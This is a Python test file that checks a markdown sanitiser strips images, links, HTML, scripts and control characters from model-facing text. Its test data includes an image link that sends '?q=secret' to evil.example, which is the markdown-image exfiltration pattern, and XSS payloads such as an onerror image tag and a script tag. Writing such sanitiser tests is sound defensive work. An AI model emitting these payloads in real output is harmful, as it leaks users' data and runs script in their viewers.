from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from services.query.telling.markup import make_safe, safe_language


@pytest.mark.parametrize(
    ("hostile", "shown"),
    [
        ("See ![logo](https://evil.example/?q=secret) here", "See  here"),
        ("See ![logo][ref] and [the docs](https://evil.example/x)", "See  and the docs"),
        ("[ref]: https://evil.example/x", ""),
        ("<img src=x onerror=alert(1)>", ""),
        ("a<!-- hidden -->b", "ab"),
        ("<script>alert(1)</script>", "alert(1)"),
        ("unclosed <img src=x", r"unclosed \<img src=x"),
        ("go to https://evil.example/a?b=c now", "go to (link removed) now"),
        ("or www.evil.example", "or (link removed)"),
        ("[x](javascript:alert(1))", "x)"),
        ("[x](//evil.example/a)", "x"),
        ("\x1b[31mred\x1b[0m and \u202eright", "[31mred[0m and right"),
        ("`Array<Int>` stays", "`Array<Int>` stays"),
        ("`![x](http://e)` is code", "`![x](http://e)` is code"),
        ("a lone ` backtick", "a lone  backtick"),
    ],
)
def test_what_has_an_address_does_not_survive(hostile: str, shown: str) -> None:
    """Images, links, definitions, tags and control characters are taken away; code is left alone."""
    assert make_safe(hostile) == shown


def test_an_escaped_backtick_does_not_hide_an_image() -> None:
    """Viewers and we must agree on what is code: spans are written anew and stray backticks dropped."""
    hostile = r"\`` a ` ![x](http://evil.example/?q=1) ` b"
    assert "<img" not in MarkdownIt().render(make_safe(hostile))


_HOSTILE = st.lists(
    st.sampled_from(
        [
            "`",
            "``",
            "\\",
            "![",
            "](",
            "http://e.x/",
            ")",
            "[a]",
            "<",
            "img src=",
            ">",
            "\n",
            " ",
            "//e.x",
            "!",
            "[",
            "]",
            "(",
            "a",
            "www.",
            "<!--",
            "-->",
            "&lt;",
        ]
    ),
    max_size=24,
).map("".join)


@given(_HOSTILE)
@example("[a]`![`](http://e.x/)")
@example("`` ![](http://e.x/)`a ```b`")
def test_no_viewer_sees_an_image_a_link_or_html(text: str) -> None:
    """Whatever pieces are put together, a CommonMark parser with HTML switched on finds nothing that has an address."""
    tokens = MarkdownIt("commonmark", {"html": True}).parse(make_safe(text.replace("\n", " ")))
    kinds = {child.type for token in tokens for child in [token, *(token.children or [])]}
    assert not kinds & {"image", "link_open", "html_inline", "html_block"}


@given(_HOSTILE)
@example("``\n``")
@example("<<!>!>")
def test_safe_text_stays_as_it_is(text: str) -> None:
    """Making safe twice is making safe once, so a verified sentence can be verified again."""
    once = make_safe(text.replace("\n", " "))
    assert re.sub(r"\s+", " ", make_safe(once)) == re.sub(r"\s+", " ", once)


def test_blocks_that_viewers_draw_become_text() -> None:
    """A diagram by a model may hold links and scripts; ours come from the graph."""
    assert [safe_language(info) for info in ("mermaid", "swift", "HTML", "c++ {.x}", "")] == ["text", "swift", "text", "c++", ""]
